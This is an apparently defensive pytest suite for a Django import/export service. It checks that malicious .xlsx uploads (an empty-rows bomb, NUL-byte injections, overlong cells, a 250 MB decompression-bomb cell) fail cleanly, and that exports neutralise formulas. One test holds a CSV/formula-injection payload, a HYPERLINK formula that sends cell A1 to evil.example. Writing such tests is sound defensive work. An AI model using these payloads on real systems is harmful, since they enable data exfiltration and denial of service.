"""Malicious uploads get a clear Chinese error within their budget and leave nothing behind; exports
write formula-like values as text."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from ecoenforce.entities.models import Entity, EntityImport
from ecoenforce.entities.services import entity_create
from ecoenforce.org.uploads import spool_dir
from ecoenforce.worker.inline import run_queued
from ecoenforce.worker.models import Job, JobStatus
from tests.entities.conftest import entity_fields, import_row, xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _rewrite(data: bytes, name: str, change) -> bytes:
    """The same .xlsx with one member rewritten by change(text) → text."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == name:
                body = change(body.decode("utf-8")).encode("utf-8")
            dst.writestr(item, body)
    return out.getvalue()


def empty_rows_bomb(rows: int = 400_000) -> bytes:
    base = xlsx([import_row(1)])
    filler = "".join(f'<row r="{i}"><c r="A{i}"/></row>' for i in range(3, rows))  # empty cells

    def change(text: str) -> str:
        text = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:K{rows}"/>', text)
        return text.replace("</sheetData>", filler + "</sheetData>")

    return _rewrite(base, "xl/worksheets/sheet1.xml", change)


def with_name(raw: str) -> bytes:
    base = xlsx([import_row(1)])
    name = import_row(1)[0]

    def change(text: str) -> str:
        # openpyxl writes non-ASCII as character references when lxml is installed
        escaped = "".join(f"&#{ord(c)};" if ord(c) > 127 else c for c in name)
        found = name if name in text else escaped
        assert found in text
        return text.replace(found, raw)

    member = (
        "xl/sharedStrings.xml"
        if "xl/sharedStrings.xml" in zipfile.ZipFile(io.BytesIO(base)).namelist()
        else "xl/worksheets/sheet1.xml"
    )
    return _rewrite(base, member, change)


def upload(client: Client, data: bytes):
    """Upload, let the background worker parse it, and return the page the user ends on."""
    response = client.post("/entities/import/", {"file": SimpleUploadedFile("x.xlsx", data, XLSX)})
    if response.status_code != 302:
        return response  # refused in the request (size, zip directory)
    assert response.url.startswith("/jobs/"), response.url
    assert run_queued() == 1
    return client.get(response.url)


@pytest.mark.parametrize(
    ("make", "message", "budget"),
    [
        (empty_rows_bomb, "空行也计算在内", 60),
        (lambda: with_name("名称\x00注入"), "无法读取", 10),
        (lambda: with_name("名称&#0;注入"), "无法读取", 10),
        (lambda: with_name("长" * 5000), "内容过长", 10),
    ],
    ids=["empty-rows", "raw-nul", "nul-entity", "long-cell"],
)
def test_malicious_uploads_get_a_chinese_error_within_budget_and_leave_nothing(
    world, settings, tmp_path, make, message, budget
):
    settings.UPLOAD_SPOOL_DIR = str(tmp_path)
    client = Client()
    client.force_login(world.user("county_a", "team_leader"))
    data = make()
    started = time.monotonic()
    response = upload(client, data)
    elapsed = time.monotonic() - started
    page = response.content.decode()
    assert response.status_code in (200, 400), page[:500]  # the form again, with the error
    assert message in page
    assert elapsed < budget, elapsed
    assert Entity.objects.count() == 0 and not EntityImport.objects.exists()
    assert Job.objects.get().status == JobStatus.FAILED
    assert not list(spool_dir().glob("*")), "the spooled upload is removed"


def test_an_entity_named_like_a_formula_is_exported_as_text(world):
    officer = world.user("county_a", "team_leader")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    entity_create(by=officer, **{**entity_fields(1, "131022100"), "name": evil})
    client = Client()
    client.force_login(officer)
    response = client.get("/entities/export.xlsx")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    found = [c for c in cells if c.value == evil]
    assert found and all(c.data_type == "s" for c in found)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


# ---------------------------------------------------------------- the catalog import


def _catalog_xlsx(name_xml: str | None = None, big_cell: int = 0) -> bytes:
    """A catalog sheet (header and one row) whose 事项名称 cell is `name_xml` (raw XML text), or a cell of
    `big_cell` characters streamed into the zip (the XML is written directly: nothing that size in memory)."""
    header = ["事项名称", "职权类型", "实施依据", "实施主体", "第一责任层级建议"]
    row = ["@NAME@", "行政处罚", "《中华人民共和国大气污染防治法》第一百零八条：……", "局", "设区的市"]

    def cells(values: list[str], r: int) -> str:
        return "".join(
            f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values)
        )

    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData><row r="1">{cells(header, 1)}</row>'
             f'<row r="2">{cells(row, 2)}</row></sheetData></worksheet>')
    before, after = sheet.split("@NAME@")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
            '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'))
        zf.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        zf.writestr("xl/workbook.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="清单" sheetId="1" r:id="rId1"/></sheets></workbook>'))
        zf.writestr("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(before.encode())
            if big_cell:
                chunk = b"A" * (1 << 20)
                for _ in range(big_cell >> 20):
                    fh.write(chunk)
            else:
                fh.write((name_xml or "").encode())
            fh.write(after.encode())
    return out.getvalue()


@pytest.mark.parametrize(
    ("make", "message", "in_request"),
    [
        (lambda: _catalog_xlsx(big_cell=250 << 20), "解压后超过", True),  # a 250 MB cell in a small file
        (lambda: _catalog_xlsx("名称\x00注入"), "无法读取", False),
        (lambda: _catalog_xlsx("名称&#0;注入"), "无法读取", False),
        (lambda: _catalog_xlsx("长" * 30_000), "内容过长", False),
    ],
    ids=["250mb-cell", "raw-nul", "nul-entity", "long-cell"],
)
def test_malicious_catalog_imports_get_a_chinese_error_within_budget_and_leave_nothing(
    world, settings, tmp_path, make, message, in_request
):
    from tests.catalog.test_catalog_support import draft, load_city

    settings.UPLOAD_SPOOL_DIR = str(tmp_path / "spool")
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    entries = sorted(version.entries.values_list("code", "name"))
    client = Client()
    client.force_login(world.user("city", "team_leader"))
    data = make()
    assert len(data) < 5 * 1024 * 1024  # small on the wire
    started = time.monotonic()
    response = client.post(f"/catalog/versions/{version.pk}/import/",
                           {"file": SimpleUploadedFile("清单.xlsx", data, XLSX), "reason": "调整"})
    if in_request:
        assert response.status_code == 200 and not Job.objects.exists()
        page = response.content.decode()
    else:
        assert response.status_code == 302 and response.url.startswith("/jobs/")
        assert run_queued() == 1
        assert Job.objects.get().status == JobStatus.FAILED
        page = client.get(response.url).content.decode()
    assert time.monotonic() - started < 20
    assert message in page
    assert sorted(version.entries.values_list("code", "name")) == entries
    assert not list((tmp_path / "spool").glob("*")), "the spooled upload is removed"
